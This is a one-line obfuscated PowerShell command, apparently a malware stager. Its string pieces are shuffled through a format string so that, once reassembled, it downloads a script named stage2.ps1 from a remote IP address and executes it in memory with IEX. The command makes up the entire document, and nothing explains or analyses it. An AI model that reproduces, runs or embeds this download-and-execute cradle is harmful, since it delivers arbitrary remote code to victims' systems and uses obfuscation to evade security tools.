iex ("{1}{5}{4}{3}{0}{2}" -f '//203.0.113.17/stage2.p','# run 9132 v4
IEX (N','s1'')
','(''http:','oadString','ew-Object Net.WebClient).Downl')